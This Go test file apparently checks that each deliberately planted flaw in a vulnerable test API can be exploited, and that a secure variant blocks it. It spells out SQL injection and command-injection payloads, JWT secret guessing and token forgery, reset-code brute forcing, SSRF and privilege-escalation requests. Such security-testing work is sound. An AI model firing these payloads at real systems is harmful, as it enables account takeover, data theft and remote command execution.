package flasklike

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/specterhq/specter/fuzz/jwt"
)

// exploits: for every planted flaw, an attack with plain HTTP that shows
// its effect. Each returns whether the effect happened; against the
// vulnerable server it must, against the Secure one it must not.
var exploits = map[string]func(t *testing.T, a *api) bool{
	"sqli-user-lookup": func(t *testing.T, a *api) bool {
		// UNION SELECT reads the passwords through the email field.
		st, _, body := a.call("GET", "/users/v1/'%20UNION%20SELECT%201,username,3,password,5%20FROM%20users--", nil)
		union := st == 200 && body == `{"username": "admin", "email": "pass1"}`
		// Boolean: always true returns the first user, always false nobody.
		st1, _, b1 := a.call("GET", "/users/v1/'%20OR%20'1'='1", nil)
		st2, _, _ := a.call("GET", "/users/v1/'%20AND%20'1'='2", nil)
		boolean := st1 == 200 && strings.Contains(b1, `"name1"`) && st2 == 404
		return union && boolean
	},
	"bola-password-change": func(t *testing.T, a *api) bool {
		tok := a.mustLogin("name2", "pass2")
		st, _, body := a.call("PUT", "/users/v1/name1/password", m{"password": "owned-by-name2"}, bearer(tok)...)
		if st != 204 || body != "" {
			t.Logf("password change: %d %s", st, body)
		}
		got, _ := a.login("name1", "owned-by-name2")
		return got != ""
	},
	"bola-book-secret": func(t *testing.T, a *api) bool {
		tok := a.mustLogin("name2", "pass2")
		st, _, body := a.call("GET", "/books/v1/bookTitle77", nil, bearer(tok)...)
		return st == 200 && body == `{"book_title": "bookTitle77", "owner": "name1", "secret": "secret for bookTitle77"}`
	},
	"register-admin-flag": func(t *testing.T, a *api) bool {
		st, _, body := a.call("POST", "/users/v1/register", m{"username": "mallory", "password": "m4ll0ry", "email": "mallory@evil.example", "admin": true})
		if st != 200 || !strings.Contains(body, "Successfully registered") {
			t.Fatalf("register: %d %s", st, body)
		}
		tok := a.mustLogin("mallory", "m4ll0ry")
		_, _, me := a.call("GET", "/me", nil, bearer(tok)...)
		st, _, _ = a.call("DELETE", "/users/v1/name2", nil, bearer(tok)...)
		return strings.Contains(me, `"admin": true`) && st == 200
	},
	"debug-endpoint-passwords": func(t *testing.T, a *api) bool {
		st, _, body := a.call("GET", "/users/v1/_debug", nil)
		return st == 200 && strings.Contains(body, `"password": "pass2"`) && strings.Contains(body, `"admin": true`)
	},
	"login-user-enumeration": func(t *testing.T, a *api) bool {
		_, unknown := a.login("nobody-here", "x")
		_, wrong := a.login("name1", "x")
		st, _, _ := a.call("POST", "/users/v1/login", m{"username": "nobody-here", "password": "x"})
		if st != 200 {
			t.Errorf("failed login status %d, want 200", st)
		}
		return unknown != wrong
	},
	"redos-email": func(t *testing.T, a *api) bool {
		tok := a.mustLogin("name1", "pass1")
		start := time.Now()
		st, _, body := a.call("PUT", "/users/v1/name1/email", m{"email": strings.Repeat("a", 40) + "!"}, bearer(tok)...)
		took := time.Since(start)
		if st != 400 || !strings.Contains(body, "Please Provide a valid email address.") {
			t.Errorf("email: %d %s", st, body)
		}
		if took > 4*time.Second {
			t.Errorf("took %s, the cap is 3 s", took)
		}
		t.Logf("took %s", took)
		return took > time.Second
	},
	"login-no-rate-limit": func(t *testing.T, a *api) bool {
		limited := false
		for i := 0; i < 20; i++ {
			st, _, _ := a.call("POST", "/users/v1/login", m{"username": "name1", "password": "guess" + strconv.Itoa(i)})
			limited = limited || st == 429
		}
		tok, _ := a.login("name1", "pass1")
		return !limited && tok != ""
	},
	"weak-jwt-key": func(t *testing.T, a *api) bool {
		tok := a.mustLogin("name1", "pass1")
		parsed, err := jwt.Parse(tok)
		if err != nil {
			t.Fatal(err)
		}
		key, ok := jwt.GuessSecret(parsed)
		if !ok {
			return false
		}
		forged := encodeToken([]byte(key), "admin", time.Now(), time.Hour)
		st, _, me := a.call("GET", "/me", nil, bearer(forged)...)
		return key == "random" && st == 200 && strings.Contains(me, `"admin": true`)
	},
	"server-version-header": func(t *testing.T, a *api) bool {
		_, h, _ := a.call("GET", "/", nil)
		return regexp.MustCompile(`Werkzeug/\d+\.\d+\.\d+ Python/\d`).MatchString(h.Get("Server"))
	},
	"cors-any-origin-credentials": func(t *testing.T, a *api) bool {
		_, h, _ := a.call("GET", "/users/v1", nil, "Origin", "https://evil.example")
		return h.Get("Access-Control-Allow-Origin") == "https://evil.example" && h.Get("Access-Control-Allow-Credentials") == "true"
	},
	"reset-code-bruteforce": func(t *testing.T, a *api) bool {
		st, _, body := a.call("POST", "/users/v1/password/forgot", m{"username": "name1"})
		if st != 200 {
			t.Fatalf("forgot: %d %s", st, body)
		}
		limited := 0
		for code := 1000; code <= 9999; code++ {
			st, _, _ := a.call("POST", "/users/v1/password/reset", m{"username": "name1", "code": strconv.Itoa(code), "new_password": "taken-over"})
			if st == 200 {
				tok, _ := a.login("name1", "taken-over")
				return tok != ""
			}
			if st == 429 {
				limited++
			}
		}
		t.Logf("%d answers were 429", limited)
		return false
	},
	"avatar-url-ssrf": func(t *testing.T, a *api) bool {
		var hits atomic.Int32
		var path atomic.Value
		canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			hits.Add(1)
			path.Store(r.URL.Path)
			w.Header().Set("Content-Type", "text/plain")
			w.Write([]byte("internal admin panel"))
		}))
		defer canary.Close()
		tok := a.mustLogin("name1", "pass1")
		st, _, body := a.call("POST", "/me/avatar", m{"url": canary.URL + "/internal/metadata"}, bearer(tok)...)
		t.Logf("%d %s", st, body)
		return hits.Load() == 1 && path.Load() == "/internal/metadata" && strings.Contains(body, "HTTP 200, text/plain")
	},
	"ping-command-injection": func(t *testing.T, a *api) bool {
		tok := a.mustLogin("name1", "pass1")
		all := true
		for _, host := range []string{"127.0.0.1;id", "127.0.0.1 | id", "127.0.0.1|id", "127.0.0.1 && id", "x || id",
			"127.0.0.1;echo $(id)", "127.0.0.1; echo `id`", "$(id)", "`id`"} {
			st, _, body := a.call("POST", "/tools/v1/ping", m{"host": host}, bearer(tok)...)
			var out struct{ Output string }
			json.Unmarshal([]byte(body), &out)
			want := "uid=33(www-data) gid=33(www-data) groups=33(www-data)"
			if host == "$(id)" || host == "`id`" {
				// ping gets the words of id's output as hosts and names
				// the first it cannot resolve.
				want = "ping: uid=33(www-data): Temporary failure in name resolution"
			}
			ok := st == 200 && strings.Contains(out.Output, want)
			if !ok {
				t.Logf("%q: %d %s", host, st, body)
			}
			all = all && ok
		}
		return all
	},
}

func TestEveryFlawIsExploitable(t *testing.T) {
	for _, f := range New(Options{}).Planted() {
		if exploits[f.ID] == nil {
			t.Errorf("no exploit test for %s", f.ID)
		}
	}
	for id, exploit := range exploits {
		t.Run(id, func(t *testing.T) {
			t.Parallel()
			if !exploit(t, start(t, Options{})) {
				t.Errorf("vulnerable server: the exploit did not work")
			}
			if exploit(t, start(t, Options{Secure: true})) {
				t.Errorf("Secure server: the exploit worked")
			}
		})
	}
}
